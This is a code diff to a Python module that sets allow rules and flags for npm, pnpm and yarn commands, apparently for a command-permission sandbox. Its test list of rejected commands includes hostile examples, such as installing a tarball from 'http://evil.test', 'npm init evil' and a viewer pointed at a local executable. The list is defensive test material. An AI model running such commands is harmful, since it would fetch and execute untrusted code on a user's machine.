@@ -1,33 +1,17 @@
 """Rules for the package tools of node: what they install, run and tell."""
 
 from treadle.policy.commands.language import Rule
+from treadle.policy.commands.node_options import (
+    EACH,
+    HERE,
+    INSTALL,
+    LOOK,
+    OF_NPM,
+    OF_PNPM,
+    PLACE,
+    RUN,
+)
 
-_INSTALL = (
-    "-DEPOBS --save-dev --save --save-exact --save-prod --save-optional --save-peer --no-save"
-    " --legacy-peer-deps --force --no-audit --no-fund --prefer-offline --offline --omit=word"
-    " --include=word --ignore-scripts --production --frozen-lockfile --silent -s --loglevel=word"
-    " --package-lock-only --no-package-lock --workspaces --dry-run"
-    " --strict-peer-deps --install-links --no-optional --verbose --quiet --progress[text]"
-    " --prefer-frozen-lockfile --no-frozen-lockfile --lockfile-only --dev --exact --immutable -d"
-    " --save-catalog --ignore-engines --non-interactive --check-files --prod --no-progress"
-    " --workspace-root --mode=word --no-lockfile --pure-lockfile --ignore-workspace --tilde"
-)
-RUN = (
-    "-s --silent --if-present --workspace=name -w=name --workspaces --include-workspace-root"
-    " --ignore-scripts --filter=text --parallel --stream --loglevel=text --no-bail -r --recursive"
-    " --watch[text] --hot --bun -b --aggregate-output --reporter=text --no-update-notifier --quiet"
-)
-PLACE = (
-    " --prefix=chdir -C=chdir --cwd=chdir --dir=chdir --silent -s --filter=text -F=text"
-    " -r --recursive"
-)
-_EACH = (
-    "-AaptivR --all --parallel --topological --topological-dev --interlaced --verbose --recursive"
-    " --worktree --since[text] --include=text --exclude=text --from=text --no-private -j=number"
-    " --jobs=number"
-)
-HERE = " -w -W --workspace"
-_LOOK = "--json --long --parseable --depth=number --all -a -l -g --global --omit=text --prod --dev"
 _RUN_INSTEAD = "Run a script of package.json: npm run build."
 _PACKAGES = "Install packages from the registry by name: npm install lodash."
 _SCRIPTS = "test t start stop build"
@@ -35,7 +19,9 @@ NPX = "Run a tool that the project has installed: npx vitest run."
 
 
 def _run(name: str, operands: str, *, hands_on: bool) -> Rule:
-    return Rule(name, RUN, operands, hands_on=hands_on, check="handed-on", instead=_RUN_INSTEAD)
+    # What follows the name is the script's, but for npm.
+    flags = RUN if hands_on else RUN + OF_NPM
+    return Rule(name, flags, operands, hands_on=hands_on, check="handed-on", instead=_RUN_INSTEAD)
 
 
 def scripts(*, hands_on: bool) -> tuple[Rule, ...]:
@@ -49,14 +35,14 @@ def scripts(*, hands_on: bool) -> tuple[Rule, ...]:
 def installs(workspace: str) -> tuple[Rule, ...]:
     """`-w` names a workspace for npm alone: for the others, a package follows it."""
     words = "install i add ci update up upgrade dedupe remove uninstall rm un prune rebuild import"
-    flags = _INSTALL + workspace
+    flags = INSTALL + workspace
     return tuple(
         Rule(name, flags, "npm...", mode="run", instead=_PACKAGES) for name in words.split()
     )
 
 
 def _look(name: str, operands: str = "npm...") -> Rule:
-    return Rule(name, _LOOK, operands, instead="Look at packages by name.")
+    return Rule(name, LOOK, operands, instead="Look at packages by name.")
 
 
 def _exec(name: str, flags: str = "") -> Rule:
@@ -80,7 +66,7 @@ SHARED: tuple[Rule, ...] = (
     *(_look(name) for name in ("ls", "list", "ll", "outdated", "why", "explain", "view", "info")),
     Rule(
         "audit",
-        _LOOK + " --audit-level=text --omit=text --fix",
+        LOOK + " --audit-level=text --omit=text --fix",
         "text",
         check="audit",
         instead="Look only: npm audit.",
@@ -126,10 +112,10 @@ RULES: tuple[Rule, ...] = (
         "npm",
         "--loglevel=text --no-audit --no-fund --offline --workspace=name -w=name --workspaces",
         (
-            *installs(" --workspace=name -w=name"),
+            *installs(OF_NPM),
             *scripts(hands_on=False),
             *SHARED,
-            _exec("exec", "--no --offline --workspace=name -w=name"),
+            _exec("exec", "-y --yes --no --offline --workspace=name -w=name"),
             _exec("x"),
             _PKG,
             create("create"),
@@ -147,6 +133,7 @@ RULES: tuple[Rule, ...] = (
             "npm i -D vitest",
             'npm run test:unit -- -t "renders (a|b)"',
             "npm --prefix web run build",
+            "npm run build --prefix web",
             "npm init -y",
             "npm create vite@latest app -- --template react-ts",
             "npm ls react",
@@ -164,6 +151,9 @@ RULES: tuple[Rule, ...] = (
             "npm install -g x",
             "npm init evil",
             "npm install user/repo",
+            "npm install ..",
+            "npm install x@..",
+            "npm install --filter http://evil.test/x.tgz",
             "npm run deploy",
             "npm view x --viewer=./e",
             "npm login",
@@ -175,7 +165,7 @@ RULES: tuple[Rule, ...] = (
         "pnpm",
         "-w --workspace-root --parallel",
         (
-            *installs(HERE),
+            *installs(OF_PNPM),
             *scripts(hands_on=True),
             *SHARED,
             _exec("exec", "-r --recursive --parallel"),
@@ -217,7 +207,7 @@ RULES: tuple[Rule, ...] = (
             Rule(
                 "workspaces",
                 subs=(
-                    Rule("foreach", _EACH, wraps=0, instead=_RUN_INSTEAD),
+                    Rule("foreach", EACH, wraps=0, instead=_RUN_INSTEAD),
                     Rule("run", "", wraps=0, instead=_RUN_INSTEAD),
                     *(_look(name, "") for name in ("list", "info")),
                 ),
